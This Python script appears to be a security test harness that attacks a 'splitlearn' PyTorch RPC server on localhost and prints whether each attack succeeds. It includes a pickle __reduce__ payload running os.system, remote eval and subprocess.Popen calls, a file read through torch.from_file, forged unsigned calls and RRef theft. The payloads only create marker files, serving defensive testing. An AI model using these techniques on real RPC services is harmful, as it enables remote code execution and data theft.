"""Plays a stranger who knows the address of a run's RPC and nothing else: tries each attack and prints its outcome.

python attacker.py uv://127.0.0.1:12345 <folder for what an attack would leave>
"""

import os
import subprocess
import sys

os.environ["TP_SOCKET_IFNAME"] = "lo"
os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"

import torch
import torch.distributed as dist
import torch.distributed.autograd
from torch.distributed import rpc

from splitlearn import transport


class Evil:
    """An argument that runs a command where it is unpickled."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def call(function, *args, **kwargs):
    return rpc.rpc_sync("server", function, args=args, kwargs=kwargs, timeout=5)


def steal_rref(created_on: int, number: int):
    ids = (0, created_on, number, 999, 7, 999)  # owner, RRef's id, fork's id, parent
    return dist.rpc.PyRRef._deserialize((*ids, "PyObject")).to_here(5)


def main() -> None:
    address, folder = sys.argv[1:]
    transport._start_agent("mallory", 999, transport.Patience(5, 5, 5), address)
    text = f"{folder}/secret"
    with open(text, "w") as file:
        file.write("secret!!" * 8)

    def left(name: str) -> str:
        return f"{folder}/{name}"

    unsigned = (0, "0" * 16, 1, "failed", "0" * 64, ("mallory was here",))
    attacks = {
        "a function by pickle": lambda: call(os.system, f"touch {left('system')}"),
        "code in an argument": lambda: call(transport._deliver, Evil(left("reduce"))),
        "an object of a class": lambda: rpc.remote(
            "server", subprocess.Popen, args=(["touch", left("popen")],), timeout=5
        ).to_here(5),
        "eval": lambda: call(eval, f"open({left('eval')!r}, 'w')"),
        "an attribute of an attribute": lambda: call(getattr, rpc, "api"),
        "an operator that reads a file": lambda: call(torch.from_file, text, False, 8),
        "an unsigned call": lambda: call(transport._deliver, *unsigned),
        "a signature of the wrong type": lambda: call(transport._deliver, *unsigned[:4], None, ()),
        "too few arguments": lambda: call(transport._deliver),
        "a client that there is not": lambda: call(transport._deliver, 99, *unsigned[1:]),
        "the server's RRef": lambda: steal_rref(0, 0),
    }
    for name, attack in attacks.items():
        try:
            outcome = f"answered {attack()!r}"
        except Exception as error:
            outcome = f"{type(error).__name__}: {str(error).splitlines()[0]}"
        print(f"{name} | {outcome[:160]}", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
